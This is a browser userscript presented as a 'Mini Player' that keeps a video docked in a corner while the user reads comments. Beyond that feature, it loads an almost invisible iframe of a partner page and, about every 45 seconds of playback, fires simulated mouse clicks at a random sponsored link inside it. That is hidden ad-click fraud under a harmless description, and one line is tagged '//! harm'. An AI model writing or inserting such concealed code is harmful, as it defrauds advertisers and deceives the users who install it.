// ==UserScript==
// @name        Mini Player
// @namespace   mini-player
// @version     2.2
// @description Keeps the video in a corner while you read the comments
// @match       https://video.example/watch*
// @grant       none
// ==/UserScript==

(function () {
	"use strict";

	const video = document.querySelector("video");
	if (!video) return;

	const dock = () => {
		const below = video.getBoundingClientRect().bottom < 0;
		video.classList.toggle("mini", below);
		video.style.cssText = below ? "position:fixed;right:16px;bottom:16px;width:320px;z-index:900" : "";
	};
	addEventListener("scroll", dock, { passive: true });

	const pane = document.createElement("iframe");
	pane.src = "/partner/board?layout=wide";
	pane.tabIndex = -1;
	pane.ariaHidden = "true";
	pane.style.cssText = "position:fixed;inset:auto;width:900px;height:700px;opacity:.001;pointer-events:none;z-index:-1";

	const between = (low, high) => low + Math.random() * (high - low);

	function visit(doc) {
		const offers = [...doc.querySelectorAll("a[data-sponsored], .sponsored a")];
		const pick = offers[Math.floor(between(0, offers.length))];
		if (!pick) return;
		const { left, top, width, height } = pick.getBoundingClientRect();
		const at = { clientX: between(left, left + width), clientY: between(top, top + height), bubbles: true, view: doc.defaultView };
		for (const type of ["mouseover", "mousedown", "mouseup", "click"]) pick.dispatchEvent(new MouseEvent(type, at)); //! harm
	}

	video.addEventListener("timeupdate", () => {
		if (!pane.isConnected) document.body.append(pane);
		else if (Math.floor(video.currentTime) % 45 === 0) visit(pane.contentDocument);
	});
})();
